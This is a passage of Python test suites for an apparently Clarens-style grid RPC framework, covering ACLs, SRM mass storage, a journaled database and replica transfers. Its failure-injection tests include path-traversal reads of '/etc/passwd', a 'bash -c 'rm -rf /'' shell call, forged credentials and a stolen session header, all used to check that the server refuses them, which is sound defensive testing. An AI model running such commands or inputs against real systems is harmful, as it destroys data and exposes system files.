        assert "file" in manager.list_method_acls()
        assert "/data" in manager.list_file_acls()


class TestACLService:
    def test_admin_sets_and_queries_acls_over_rpc(self, admin_client, client, alice_credential):
        alice_dn = str(alice_credential.certificate.subject)
        admin_client.call("acl.set_method_acl", "shell",
                          ACL(dns_allowed=[alice_dn]).to_record())
        decision = client.call("acl.check_method", "shell.cmd", "")
        assert decision["allowed"] is True
        listed = admin_client.call("acl.list_method_acls")
        assert "shell" in listed
        assert admin_client.call("acl.remove_method_acl", "shell") is True

    def test_non_admin_cannot_set_acls(self, client):
        with pytest.raises(Fault):
            client.call("acl.set_method_acl", "file", ACL.allow_all().to_record())

    def test_file_acl_rpc_round_trip(self, admin_client):
        facl = FileACL(read=ACL.allow_all(), write=ACL(dns_allowed=[ADMIN]))
        admin_client.call("acl.set_file_acl", "/secure",
                          facl.read.to_record(), facl.write.to_record())
        fetched = admin_client.call("acl.get_file_acl", "/secure")
        assert fetched["write"]["dns_allowed"] == [ADMIN]
        check = admin_client.call("acl.check_file", "/secure/report.txt", "write", ADMIN)
        assert check["allowed"] is True


# -- property-based: hierarchy invariants -----------------------------------------------

_levels = ["svc", "svc.sub", "svc.sub.method"]


@settings(deadline=None, max_examples=40)
@given(
    st.dictionaries(st.sampled_from(_levels),
                    st.sampled_from(["allow", "deny", "none"]), min_size=1, max_size=3))
def test_most_specific_configured_level_decides(assignment):
    """The lowest applicable level with an explicit match decides the outcome."""

    manager, _ = make_manager()
    dn = ALICE
    for level, kind in assignment.items():
        if kind == "allow":
            manager.set_method_acl(level, ACL(dns_allowed=[dn]))
        elif kind == "deny":
            manager.set_method_acl(level, ACL(order="allow,deny", dns_denied=[dn]))
        else:
            manager.set_method_acl(level, ACL(dns_allowed=["/O=someone/CN=else"]))
    decision = manager.check_method(dn, "svc.sub.method")
    # Reference evaluation: walk most-specific-first and stop at the first
    # explicit match for the DN.
    expected = None
    for level in reversed(_levels):
        kind = assignment.get(level)
        if kind in ("allow", "deny"):
            expected = (kind == "allow")
            break
    if expected is None:
        expected = False  # ACLs exist but none match this DN -> deny
    assert decision.allowed == expected
