"""The SRM/mass-storage extension: the simulated dCache, the SRM layer, the RPC."""

from __future__ import annotations

import pytest

from repro.client.files import download_file
from repro.protocols.errors import Fault, FaultCode
from repro.storage.masstore import MassStorageSystem, StorageError
from repro.storage.srm import RequestState, StorageResourceManager

OWNER = "/O=srm.test/CN=Data Owner"


@pytest.fixture()
def store(tmp_path):
    return MassStorageSystem(tmp_path / "masstore", pool_capacity=1 << 20, n_pools=2)


class TestMassStorage:
    def test_write_read_round_trip(self, store):
        record = store.write("/cms/run1.dat", b"events" * 100)
        assert record.on_disk and not record.on_tape
        assert store.read("/cms/run1.dat") == b"events" * 100
        assert store.stat("/cms/run1.dat")["locality"] == "ONLINE"

    def test_duplicate_write_rejected(self, store):
        store.write("/a.dat", b"x")
        with pytest.raises(StorageError):
            store.write("/a.dat", b"y")

    def test_flush_evict_stage_cycle(self, store):
        store.write("/tape/archive.dat", b"z" * 1000)
        store.flush_to_tape("/tape/archive.dat")
        assert store.stat("/tape/archive.dat")["locality"] == "ONLINE_AND_NEARLINE"
        store.unpin("/tape/archive.dat")
        store.evict("/tape/archive.dat")
        assert store.stat("/tape/archive.dat")["locality"] == "NEARLINE"
        # Staging brings it back online and pins it.
        record = store.stage("/tape/archive.dat", pin_seconds=60)
        assert record.on_disk and record.pinned
        assert store.read("/tape/archive.dat") == b"z" * 1000
        assert store.stage_operations == 1

    def test_evict_without_tape_copy_refused(self, store):
        store.write("/precious.dat", b"only-copy")
        with pytest.raises(StorageError, match="no tape copy"):
            store.evict("/precious.dat")

    def test_evict_pinned_replica_refused(self, store):
        store.write("/pinned.dat", b"p")
        store.flush_to_tape("/pinned.dat")
        store.pin("/pinned.dat", 60)
        with pytest.raises(StorageError, match="pinned"):
            store.evict("/pinned.dat")

    def test_pool_pressure_evicts_lru_tape_backed_replicas(self, tmp_path):
        store = MassStorageSystem(tmp_path / "small", pool_capacity=1000, n_pools=1)
        store.write("/old.dat", b"a" * 600)
        store.flush_to_tape("/old.dat")
        store.unpin("/old.dat")
        # The next write does not fit beside /old.dat, so /old.dat is evicted.
        store.write("/new.dat", b"b" * 600)
        assert store.stat("/old.dat")["locality"] == "NEARLINE"
        assert store.stat("/new.dat")["locality"] == "ONLINE"

    def test_pool_full_of_unarchived_data_raises(self, tmp_path):
        store = MassStorageSystem(tmp_path / "tiny", pool_capacity=500, n_pools=1)
        store.write("/only.dat", b"a" * 400)  # no tape copy, cannot be evicted
        with pytest.raises(StorageError, match="free space"):
            store.write("/more.dat", b"b" * 400)

    def test_listdir_and_delete(self, store):
        store.write("/cms/a.dat", b"1")
        store.write("/cms/b.dat", b"2")
        store.write("/atlas/c.dat", b"3")
        assert [e["logical_path"] for e in store.listdir("/cms")] == ["/cms/a.dat", "/cms/b.dat"]
        assert store.delete("/cms/a.dat")
        assert not store.delete("/cms/a.dat")

    def test_invalid_paths_rejected(self, store):
        with pytest.raises(StorageError):
            store.write("/../escape.dat", b"x")
        with pytest.raises(StorageError):
            store.stat("/missing.dat")


class TestSRMLayer:
    @pytest.fixture()
    def srm(self, store, tmp_path):
        return StorageResourceManager(store, tmp_path / "transfers")

    def test_prepare_to_get_stages_and_exposes_turl(self, srm, store):
        store.write("/cms/run1.dat", b"payload")
        store.flush_to_tape("/cms/run1.dat")
        store.unpin("/cms/run1.dat")
        store.evict("/cms/run1.dat")
        request = srm.prepare_to_get(OWNER, "/cms/run1.dat")
        assert request.state is RequestState.READY
        assert request.turl.startswith("/srm-transfers/")
        assert store.stat("/cms/run1.dat")["locality"].startswith("ONLINE")

    def test_prepare_to_get_missing_file_fails(self, srm):
        request = srm.prepare_to_get(OWNER, "/nope.dat")
        assert request.state is RequestState.FAILED
        assert "no such file" in request.error

    def test_put_cycle(self, srm, tmp_path):
        request = srm.prepare_to_put(OWNER, "/cms/new_upload.dat", 5)
        assert request.state is RequestState.READY
        # The client writes to the TURL (here: directly into the transfer area).
        (tmp_path / "transfers" / request.turl.rsplit("/", 1)[-1]).write_bytes(b"fresh")
        done = srm.put_done(request.request_id)
        assert done.state is RequestState.DONE
        assert srm.stat("/cms/new_upload.dat")["locality"] == "ONLINE_AND_NEARLINE"

    def test_put_done_without_data_fails(self, srm):
        request = srm.prepare_to_put(OWNER, "/cms/ghost.dat", 5)
        done = srm.put_done(request.request_id)
        assert done.state is RequestState.FAILED

    def test_release_unpins_and_clears_turl(self, srm, store, tmp_path):
        store.write("/cms/run2.dat", b"data")
        request = srm.prepare_to_get(OWNER, "/cms/run2.dat")
        released = srm.release(request.request_id)
        assert released.state is RequestState.RELEASED
        assert not (tmp_path / "transfers" / request.turl.rsplit("/", 1)[-1]).exists()

    def test_space_reservation_accounting(self, srm):
        space = srm.reserve_space(OWNER, 10)
        ok = srm.prepare_to_put(OWNER, "/a.dat", 8, space_token=space.token)
        assert ok.state is RequestState.READY
        too_big = srm.prepare_to_put(OWNER, "/b.dat", 8, space_token=space.token)
        assert too_big.state is RequestState.FAILED
        bad_token = srm.prepare_to_put(OWNER, "/c.dat", 1, space_token="space-999999")
        assert bad_token.state is RequestState.FAILED
        assert srm.release_space(space.token)

    def test_request_tracking(self, srm, store):
        store.write("/cms/run3.dat", b"d")
        srm.prepare_to_get(OWNER, "/cms/run3.dat")
        srm.prepare_to_put(OWNER, "/cms/out.dat", 1)
        assert [r.kind for r in srm.requests_for(OWNER)] == ["get", "put"]
        with pytest.raises(StorageError):
            srm.get_request(999)


class TestSRMService:
    def test_full_transfer_through_file_service(self, admin_client, client):
        # An administrator archives production data (it goes to disk + tape).
        admin_client.call("srm.archive", "/cms/run2005A/events.dat", b"event " * 500, True)
        admin_client.call("srm.evict", "/cms/run2005A/events.dat")
        assert admin_client.call("srm.stat", "/cms/run2005A/events.dat")["locality"] == "NEARLINE"

        # A user stages it via SRM and downloads the TURL through the file GET path.
        request = client.call("srm.prepare_to_get", "/cms/run2005A/events.dat", 600.0)
        assert request["state"] == "SRM_FILE_READY"
        data = download_file(client, request["turl"])
        assert data == b"event " * 500

        # Status / release round-trip.
        status = client.call("srm.status", request["request_id"])
        assert status["state"] == "SRM_FILE_READY"
        released = client.call("srm.release", request["request_id"])
        assert released["state"] == "SRM_RELEASED"

    def test_upload_via_prepare_to_put(self, admin_client, client):
        space = client.call("srm.reserve_space", 1 << 20, 3600.0)
        request = client.call("srm.prepare_to_put", "/user/alice/histos.root", 12,
                              space["token"])
        assert request["state"] == "SRM_FILE_READY"
        # Upload through the ordinary (ACL-checked) file service write.
        client.call("file.write", request["turl"], b"histogram!!", False)
        done = client.call("srm.put_done", request["request_id"])
        assert done["state"] == "SRM_SUCCESS"
        listed = client.call("srm.ls", "/user/alice")
        assert listed and listed[0]["logical_path"] == "/user/alice/histos.root"

    def test_archive_requires_admin(self, client):
        with pytest.raises(Fault) as excinfo:
            client.call("srm.archive", "/x.dat", b"data", True)
        assert excinfo.value.code == FaultCode.ACCESS_DENIED

    def test_foreign_request_hidden(self, client, admin_client):
        admin_client.call("srm.archive", "/cms/other.dat", b"d", True)
        request = admin_client.call("srm.prepare_to_get", "/cms/other.dat", 60.0)
        with pytest.raises(Fault) as excinfo:
            client.call("srm.status", request["request_id"])
        assert excinfo.value.code == FaultCode.ACCESS_DENIED

    def test_pools_and_pin(self, admin_client, client):
        admin_client.call("srm.archive", "/cms/pinme.dat", b"p", True)
        pools = client.call("srm.pools")
        assert pools and all("free" in p for p in pools)
        pinned = client.call("srm.pin", "/cms/pinme.dat", 120.0)
        assert pinned["pinned_until"] > 0
        assert client.call("srm.my_requests") == []

    def test_missing_surl_faults(self, client):
        with pytest.raises(Fault) as excinfo:
            client.call("srm.stat", "/does/not/exist.dat")
        assert excinfo.value.code == FaultCode.NOT_FOUND
