"""Failure injection: malformed inputs, forged credentials, corrupted state.

These tests check that the framework degrades the way a production service
must: bad input becomes a protocol fault or an HTTP error, forged or expired
credentials are refused at the door, and damaged on-disk state is either
tolerated (torn journal tail) or reported loudly (mid-journal corruption) —
never silently misread.
"""

from __future__ import annotations

import pytest

from repro.client.client import ClarensClient
from repro.core.dispatch import SESSION_HEADER
from repro.httpd.message import Headers, HTTPRequest
from repro.pki.authority import CertificateAuthority
from repro.pki.proxy import issue_proxy
from repro.protocols import XMLRPCCodec
from repro.protocols.errors import Fault, FaultCode
from repro.protocols.types import RPCRequest

from tests.conftest import build_server


class TestMalformedRequests:
    @pytest.mark.parametrize("body", [
        b"", b"{", b"<xml but not rpc/>", b"\xff\xfe garbage bytes", b"GET / HTTP/1.0",
        b'{"jsonrpc": "2.0"}',
    ])
    def test_bad_bodies_become_faults_not_crashes(self, server, body):
        from repro.protocols.negotiate import all_codecs

        request = HTTPRequest(method="POST", path=server.config.rpc_path(),
                              headers=Headers({"Content-Type": "text/xml"}), body=body)
        response = server.handle_request(request)
        assert response.status == 200
        # The fault body is encoded with whichever codec the sniffer chose;
        # exactly one of the codecs must decode it to a fault.
        decoded = None
        for codec in all_codecs():
            try:
                decoded = codec.decode_response(response.body_bytes())
                break
            except Exception:  # noqa: BLE001 - other codecs simply do not apply
                continue
        assert decoded is not None and decoded.is_fault

    def test_wrong_http_method_on_rpc_endpoint(self, server):
        request = HTTPRequest(method="GET", path=server.config.rpc_path())
        assert server.handle_request(request).status == 405

    def test_unrouted_path_404(self, server):
        assert server.handle_request(HTTPRequest(path="/cgi-bin/blah")).status == 404

    def test_oversized_parameters_still_handled(self, client):
        # A 1 MiB string round-trips (slow path, but no failure).
        blob = "x" * (1 << 20)
        assert client.call("system.echo", blob) == blob

    def test_wrong_parameter_types_become_invalid_params(self, client):
        with pytest.raises(Fault) as excinfo:
            client.call("file.read", 12345, "not-an-offset", None)
        assert excinfo.value.code in (FaultCode.INVALID_PARAMS, FaultCode.INTERNAL_ERROR,
                                      FaultCode.NOT_FOUND)


class TestForgedCredentials:
    def test_certificate_from_unknown_ca_rejected(self, server, loopback):
        rogue_ca = CertificateAuthority("/O=clarens.test/CN=Rogue CA", key_bits=512)
        mallory = rogue_ca.issue_user("Mallory")
        client = ClarensClient.for_loopback(loopback)
        with pytest.raises(Fault) as excinfo:
            client.login_with_credential(mallory)
        assert excinfo.value.code == FaultCode.AUTHENTICATION_REQUIRED

    def test_signature_from_wrong_key_rejected(self, server, loopback, alice_credential,
                                               bob_credential):
        client = ClarensClient.for_loopback(loopback)
        dn = str(alice_credential.certificate.subject)
        nonce = client.call("system.get_challenge", dn)
        forged_signature = bob_credential.private_key.sign(nonce.encode())
        chain = [cert.to_dict() for cert in alice_credential.full_chain()]
        with pytest.raises(Fault):
            client.call("system.auth", dn, format(forged_signature, "x"), chain)

    def test_expired_proxy_login_rejected(self, server, loopback, alice_credential):
        import time

        proxy = issue_proxy(alice_credential, lifetime=0.001)
        time.sleep(0.01)
        client = ClarensClient.for_loopback(loopback)
        with pytest.raises(Fault):
            client.login_with_proxy(proxy)

    def test_revoked_user_cannot_authenticate(self, ca, host_credential):
        server = build_server(ca, host_credential)
        try:
            victim = ca.issue_user("Revoked Victim")
            ca.revoke(victim.certificate)
            server.authenticator.revoked_serials = ca.crl()
            client = ClarensClient.for_loopback(server.loopback())
            with pytest.raises(Fault):
                client.login_with_credential(victim)
        finally:
            server.close()

    def test_malformed_signature_hex_rejected(self, server, loopback, alice_credential):
        client = ClarensClient.for_loopback(loopback)
        dn = str(alice_credential.certificate.subject)
        client.call("system.get_challenge", dn)
        chain = [cert.to_dict() for cert in alice_credential.full_chain()]
        with pytest.raises(Fault):
            client.call("system.auth", dn, "not-hex!!", chain)

    def test_malformed_chain_payload_rejected(self, server, loopback, alice_credential):
        client = ClarensClient.for_loopback(loopback)
        dn = str(alice_credential.certificate.subject)
        nonce = client.call("system.get_challenge", dn)
        signature = alice_credential.private_key.sign(nonce.encode())
        with pytest.raises(Fault):
            client.call("system.auth", dn, format(signature, "x"), [{"bogus": True}])

    def test_stolen_session_header_of_logged_out_user(self, server, loopback,
                                                      alice_credential):
        client = ClarensClient.for_loopback(loopback)
        client.login_with_credential(alice_credential)
        stolen = client.session_id
        client.logout()
        body = XMLRPCCodec().encode_request(RPCRequest("system.whoami"))
        request = HTTPRequest(method="POST", path=server.config.rpc_path(),
                              headers=Headers({"Content-Type": "text/xml",
                                               SESSION_HEADER: stolen}), body=body)
        decoded = XMLRPCCodec().decode_response(server.handle_request(request).body_bytes())
        assert decoded.is_fault and decoded.fault.code == FaultCode.SESSION_EXPIRED


class TestServiceMisuse:
    def test_path_traversal_via_rpc_rejected(self, client):
        with pytest.raises(Fault):
            client.call("file.read", "/../../../etc/passwd", 0, 100)

    def test_path_traversal_via_get_rejected(self, client):
        response = client.http_get("../../etc/passwd")
        assert response.status in (403, 404)

    def test_shell_cannot_run_arbitrary_binaries(self, admin_client):
        result = admin_client.call("shell.cmd", "bash -c 'rm -rf /'")
        assert result["exit_code"] == 127

    def test_non_admin_cannot_grant_themselves_access(self, client):
        from repro.acl.model import ACL

        with pytest.raises(Fault) as excinfo:
            client.call("acl.set_method_acl", "system", ACL.allow_all().to_record())
        assert excinfo.value.code == FaultCode.ACCESS_DENIED

    def test_vo_escalation_blocked(self, client):
        with pytest.raises(Fault):
            client.call("vo.add_member", "admins", "/O=clarens.test/OU=People/CN=Alice Adams")


class TestCorruptedState:
    def test_server_starts_with_torn_journal_tail(self, ca, host_credential, tmp_path):
        data_dir = tmp_path / "state"
        server = build_server(ca, host_credential, data_dir=data_dir)
        server.sessions.create("/O=clarens.test/CN=survivor")
        server.close()
        # Simulate a crash mid-write on the sessions journal.
        journal = data_dir / "sessions" / "journal.jsonl"
        with journal.open("a") as fh:
            fh.write('{"op": "put", "key": "torn", "record": {"dn"')
        reopened = build_server(ca, host_credential, data_dir=data_dir)
        try:
            assert reopened.sessions.count() == 1
        finally:
            reopened.close()

    def test_worker_exception_does_not_kill_server(self, server, client):
        # Register a method that raises; the dispatcher must fault, then keep serving.
        server.registry.register("broken.method", lambda: 1 / 0, service="broken")
        with pytest.raises(Fault) as excinfo:
            client.call("broken.method")
        assert excinfo.value.code == FaultCode.INTERNAL_ERROR
        assert client.call("system.ping") == "pong"

    def test_discovery_lease_expiry_removes_moved_services(self, client):
        from repro.discovery.model import ServiceDescriptor
        import time

        client.call("discovery.register", ServiceDescriptor(
            name="flaky", url="http://flaky/rpc", services=["system"], ttl=0.05).to_record())
        assert client.call("discovery.lookup", "", "", "flaky") == "http://flaky/rpc"
        time.sleep(0.06)
        assert client.call("discovery.lookup", "", "", "flaky") == ""
