"""The embedded database: tables, indexes, queries, persistence, locks."""

from __future__ import annotations

import json
import threading

import pytest
from hypothesis import given, settings, strategies as st

from repro.database import (
    Database,
    DuplicateKeyError,
    RecordNotFoundError,
    Table,
    TableNotFoundError,
)
from repro.database.errors import JournalCorruptError
from repro.database.locks import RWLock
from repro.database.persistence import SnapshotJournal


class TestTableBasics:
    def test_insert_and_get_returns_copy(self):
        table = Table("t")
        table.insert("a", {"x": 1})
        record = table.get("a")
        record["x"] = 99
        assert table.get("a")["x"] == 1

    def test_duplicate_insert_rejected_unless_overwrite(self):
        table = Table("t")
        table.insert("a", {"x": 1})
        with pytest.raises(DuplicateKeyError):
            table.insert("a", {"x": 2})
        table.insert("a", {"x": 2}, overwrite=True)
        assert table.get("a")["x"] == 2

    def test_get_missing_raises_or_defaults(self):
        table = Table("t")
        with pytest.raises(RecordNotFoundError):
            table.get("missing")
        assert table.get("missing", None) is None

    def test_update_merges_fields(self):
        table = Table("t")
        table.insert("a", {"x": 1, "y": 2})
        updated = table.update("a", {"y": 3, "z": 4})
        assert updated == {"x": 1, "y": 3, "z": 4}
        with pytest.raises(RecordNotFoundError):
            table.update("missing", {"x": 1})

    def test_delete_and_contains(self):
        table = Table("t")
        table.insert("a", {"x": 1})
        assert "a" in table
        assert table.delete("a")
        assert not table.delete("a")
        assert "a" not in table

    def test_clear_len_iter(self):
        table = Table("t")
        for i in range(5):
            table.insert(str(i), {"i": i})
        assert len(table) == 5
        assert sorted(table) == [str(i) for i in range(5)]
        table.clear()
        assert len(table) == 0

    def test_keys_all_items(self):
        table = Table("t")
        table.insert("a", {"x": 1})
        table.insert("b", {"x": 2})
        assert sorted(table.keys()) == ["a", "b"]
        assert {r["x"] for r in table.all()} == {1, 2}
        assert dict(table.items())["b"] == {"x": 2}


class TestQueriesAndIndexes:
    def make_table(self, indexed: bool) -> Table:
        table = Table("sessions")
        if indexed:
            table.create_index("dn")
        for i in range(20):
            table.insert(f"s{i}", {"dn": f"/O=x/CN=user{i % 4}", "seq": i})
        return table

    @pytest.mark.parametrize("indexed", [True, False])
    def test_find_by_equality(self, indexed):
        table = self.make_table(indexed)
        rows = table.find(dn="/O=x/CN=user1")
        assert len(rows) == 5
        assert all(r["dn"] == "/O=x/CN=user1" for r in rows)

    def test_find_with_predicate(self):
        table = self.make_table(False)
        rows = table.find(lambda r: r["seq"] >= 15)
        assert {r["seq"] for r in rows} == {15, 16, 17, 18, 19}

    def test_find_one(self):
        table = self.make_table(True)
        assert table.find_one(dn="/O=x/CN=user2") is not None
        assert table.find_one(dn="/O=x/CN=nobody") is None

    def test_lookup_uses_index_after_updates(self):
        table = self.make_table(True)
        table.update("s0", {"dn": "/O=x/CN=moved"})
        assert {r["seq"] for r in table.lookup("dn", "/O=x/CN=moved")} == {0}
        assert all(r["seq"] != 0 for r in table.lookup("dn", "/O=x/CN=user0"))

    def test_index_removed_on_delete(self):
        table = self.make_table(True)
        table.delete("s4")
        assert all(r["seq"] != 4 for r in table.lookup("dn", "/O=x/CN=user0"))

    def test_unique_index_violation(self):
        table = Table("methods")
        table.create_index("name", unique=True)
        table.insert("1", {"name": "system.echo"})
        with pytest.raises(DuplicateKeyError):
            table.insert("2", {"name": "system.echo"})

    def test_index_created_after_inserts_is_built(self):
        table = Table("t")
        table.insert("a", {"group": "g1"})
        table.insert("b", {"group": "g2"})
        table.create_index("group")
        assert len(table.lookup("group", "g1")) == 1

    def test_index_on_list_valued_field(self):
        table = Table("t")
        table.create_index("tags")
        table.insert("a", {"tags": ["x", "y"]})
        assert table.lookup("tags", ["x", "y"])[0]["tags"] == ["x", "y"]


class TestDatabaseEngine:
    def test_table_created_on_demand(self):
        db = Database()
        table = db.table("sessions")
        assert "sessions" in db
        assert db.table("sessions") is table

    def test_table_not_found_when_create_false(self):
        db = Database()
        with pytest.raises(TableNotFoundError):
            db.table("nope", create=False)

    def test_drop_table(self, tmp_path):
        db = Database(tmp_path)
        db.table("temp").insert("a", {"x": 1})
        assert db.drop_table("temp")
        assert not db.drop_table("temp")
        assert not (tmp_path / "temp").exists()

    def test_persistent_flag(self, tmp_path):
        assert Database(tmp_path).persistent
        assert not Database().persistent

    def test_context_manager_closes(self, tmp_path):
        with Database(tmp_path) as db:
            db.table("t").insert("a", {"x": 1})
        reopened = Database(tmp_path)
        assert reopened.table("t").get("a") == {"x": 1}


class TestPersistence:
    def test_data_survives_reopen(self, tmp_path):
        db = Database(tmp_path)
        db.table("sessions").insert("s1", {"dn": "/O=x/CN=a", "expires": 1.5})
        db.close()
        db2 = Database(tmp_path)
        assert db2.table("sessions").get("s1") == {"dn": "/O=x/CN=a", "expires": 1.5}

    def test_journal_replay_without_checkpoint(self, tmp_path):
        db = Database(tmp_path, checkpoint_every=10_000)
        table = db.table("t")
        for i in range(25):
            table.put(str(i), {"i": i})
        table.delete("3")
        # No close/checkpoint: reopening must replay the journal.
        db2 = Database(tmp_path, checkpoint_every=10_000)
        t2 = db2.table("t")
        assert len(t2) == 24
        assert "3" not in t2

    def test_checkpoint_truncates_journal(self, tmp_path):
        journal = SnapshotJournal(tmp_path / "t", checkpoint_every=5)
        for i in range(12):
            journal.log_put(str(i), {"i": i}, lambda: {str(j): {"i": j} for j in range(i + 1)})
        # After the automatic checkpoints the journal holds < 5 entries.
        lines = (tmp_path / "t" / "journal.jsonl").read_text().splitlines()
        assert len(lines) < 5
        assert json.loads((tmp_path / "t" / "snapshot.json").read_text())

    def test_torn_final_journal_line_tolerated(self, tmp_path):
        journal = SnapshotJournal(tmp_path / "t", checkpoint_every=10_000)
        journal.log_put("a", {"x": 1}, dict)
        journal.log_put("b", {"x": 2}, dict)
        journal.close()
        with (tmp_path / "t" / "journal.jsonl").open("a") as fh:
            fh.write('{"op": "put", "key": "c", "record": {"x":')  # torn write
        loaded = SnapshotJournal(tmp_path / "t").load()
        assert set(loaded) == {"a", "b"}

    def test_corrupt_mid_journal_raises(self, tmp_path):
        journal = SnapshotJournal(tmp_path / "t", checkpoint_every=10_000)
        journal.log_put("a", {"x": 1}, dict)
        journal.close()
        path = tmp_path / "t" / "journal.jsonl"
        path.write_text("GARBAGE\n" + path.read_text())
        with pytest.raises(JournalCorruptError):
            SnapshotJournal(tmp_path / "t").load()

    def test_unknown_journal_op_raises(self, tmp_path):
        directory = tmp_path / "t"
        directory.mkdir()
        (directory / "journal.jsonl").write_text('{"op": "frobnicate", "key": "a"}\n')
        with pytest.raises(JournalCorruptError):
            SnapshotJournal(directory).load()

    def test_clear_is_journaled(self, tmp_path):
        db = Database(tmp_path, checkpoint_every=10_000)
        table = db.table("t")
        table.insert("a", {"x": 1})
        table.clear()
        db2 = Database(tmp_path, checkpoint_every=10_000)
        assert len(db2.table("t")) == 0


class TestConcurrency:
    def test_parallel_inserts_all_land(self):
        table = Table("t")
        errors = []

        def worker(start: int) -> None:
            try:
                for i in range(start, start + 100):
                    table.insert(str(i), {"i": i})
            except Exception as exc:  # noqa: BLE001
                errors.append(exc)

        threads = [threading.Thread(target=worker, args=(i * 100,)) for i in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert not errors
        assert len(table) == 800

    def test_rwlock_allows_concurrent_readers(self):
        lock = RWLock()
        active = []
        barrier = threading.Barrier(4)

        def reader() -> None:
            with lock.read():
                barrier.wait(timeout=5)
                active.append(1)

        threads = [threading.Thread(target=reader) for _ in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert len(active) == 4

    def test_rwlock_writer_exclusive(self):
        lock = RWLock()
        order = []

        def writer(tag: str) -> None:
            with lock.write():
                order.append(f"{tag}-start")
                order.append(f"{tag}-end")

        threads = [threading.Thread(target=writer, args=(str(i),)) for i in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        # Starts and ends must alternate (no interleaving inside the lock).
        for i in range(0, len(order), 2):
            assert order[i].split("-")[0] == order[i + 1].split("-")[0]


# -- property-based -------------------------------------------------------------

_record_st = st.dictionaries(
    keys=st.text(st.characters(whitelist_categories=("L", "N")), min_size=1, max_size=8),
    values=st.one_of(st.integers(-1000, 1000), st.text(max_size=12), st.booleans(),
                     st.floats(allow_nan=False, allow_infinity=False)),
    max_size=5,
)


@settings(deadline=None, max_examples=40)
@given(st.dictionaries(st.text(min_size=1, max_size=6), _record_st, max_size=20))
def test_table_reflects_last_write(records):
    table = Table("prop")
    for key, record in records.items():
        table.put(key, record)
    assert len(table) == len(records)
    for key, record in records.items():
        assert table.get(key) == record


@settings(deadline=None, max_examples=25)
@given(st.lists(st.tuples(st.sampled_from(["put", "delete"]),
                          st.sampled_from(["a", "b", "c", "d"]),
                          st.integers(0, 100)), max_size=40))
def test_table_matches_reference_dict(operations):
    table = Table("prop")
    reference: dict[str, dict] = {}
    for op, key, value in operations:
        if op == "put":
            table.put(key, {"v": value})
            reference[key] = {"v": value}
        else:
            table.delete(key)
            reference.pop(key, None)
    assert {k: table.get(k) for k in table.keys()} == reference
