"""Durable replication: transfer journal, restart replay, remote storage
elements, and auto-heal policies.

The acceptance scenarios of the durability layer live here: a transfer
interrupted by engine shutdown completes after restart with the journal
draining to empty; a quarantined replica under a 2-copy policy is healed
back to 2 healthy copies — exactly once, no flapping — with
``replica.policy.*`` events on the monitoring bus; and a peer server
attached as a ``RemoteStorageElement`` both serves and receives replicas.
"""

from __future__ import annotations

import hashlib
import time

import pytest

from repro.client.client import ClarensClient
from repro.client.files import download_lfn, replicate_lfn
from repro.database import Database
from repro.fileservice.vfs import VirtualFileSystem
from repro.monitoring.bus import MessageBus
from repro.protocols.errors import Fault
from repro.replica.catalogue import ReplicaCatalogue
from repro.replica.journal import TransferJournal
from repro.replica.model import (ReplicaNotFoundError, ReplicaState,
                                 TransferRequest, TransferState)
from repro.replica.policy import POLICY_OWNER, ReplicaPolicyEngine
from repro.core.faults import FAULTS
from repro.replica.storage import (RemoteStorageElement, StorageElementError,
                                   VFSStorageElement)
from repro.replica.transfer import TransferEngine

from tests.conftest import build_server
from tests.test_replica import make_se, register_file


def make_engine(catalogue, elements, **kwargs):
    kwargs.setdefault("workers", 2)
    kwargs.setdefault("retry_delay", 0.001)
    return TransferEngine(catalogue, {e.name: e for e in elements}, **kwargs)


# -- the journal itself --------------------------------------------------------

class TestTransferJournal:
    def _request(self, transfer_id=1, state=TransferState.QUEUED) -> TransferRequest:
        return TransferRequest(transfer_id=transfer_id, lfn="/lfn/f",
                               dst_se="se-b", state=state, bytes_total=4)

    def test_record_and_pending_roundtrip(self):
        journal = TransferJournal(Database())
        request = self._request()
        journal.record(request)
        assert len(journal) == 1
        [row] = journal.pending()
        assert row["lfn"] == "/lfn/f"
        assert row["state"] == "queued"
        assert row["journal_version"] == 1

    def test_rerecord_bumps_journal_version(self):
        journal = TransferJournal(Database())
        request = self._request()
        journal.record(request)
        request.state = TransferState.RUNNING
        journal.record(request)
        [row] = journal.pending()
        assert row["state"] == "running"
        assert row["journal_version"] == 2

    def test_terminal_states_discharge_the_row(self):
        journal = TransferJournal(Database())
        request = self._request()
        journal.record(request)
        request.state = TransferState.DONE
        journal.record(request)              # terminal record == discharge
        assert len(journal) == 0
        assert journal.pending() == []

    def test_max_transfer_id_bounds_allocation(self):
        journal = TransferJournal(Database())
        assert journal.max_transfer_id() == 0
        journal.record(self._request(transfer_id=41))
        journal.record(self._request(transfer_id=7))
        assert journal.max_transfer_id() == 41

    def test_rows_persist_across_database_reopen(self, tmp_path):
        db = Database(tmp_path / "db")
        TransferJournal(db).record(self._request(transfer_id=3))
        db.close()
        reopened = TransferJournal(Database(tmp_path / "db"))
        assert [r["transfer_id"] for r in reopened.pending()] == [3]


# -- restart semantics ---------------------------------------------------------

class TestRestartReplay:
    def test_queued_transfer_completes_after_engine_restart(self, tmp_path):
        """The acceptance path: submit, crash before running, restart, done."""

        db = Database()
        bus = MessageBus()
        recovered_events: list[dict] = []
        bus.subscribe("replica.transfer.recovered",
                      lambda m: recovered_events.append(m.payload))
        catalogue = ReplicaCatalogue(db)
        journal = TransferJournal(db)
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        data = b"durable payload " * 64
        register_file(catalogue, se_a, "/lfn/f", data)

        crashed = make_engine(catalogue, [se_a, se_b], journal=journal)
        request = crashed.submit("/lfn/f", "se-b")      # engine never started
        assert len(journal) == 1

        engine = make_engine(catalogue, [se_a, se_b], journal=journal, bus=bus)
        engine.start()
        try:
            done = engine.wait(request.transfer_id, timeout=10.0)
            assert done.state is TransferState.DONE
            assert se_b.read("/lfn/f") == data
            assert len(journal) == 0                     # the journal drains
            assert [e["transfer_id"] for e in recovered_events] == \
                [request.transfer_id]
            assert engine.transfers_recovered == 1
        finally:
            engine.stop()

    def test_mid_copy_crash_reclaims_partial_destination(self, tmp_path):
        """A RUNNING row with a stale COPYING claim and partial bytes heals."""

        db = Database()
        catalogue = ReplicaCatalogue(db)
        journal = TransferJournal(db)
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        data = b"the whole file content"
        register_file(catalogue, se_a, "/lfn/f", data)
        # Fabricate the exact crash state a dead worker leaves behind: the
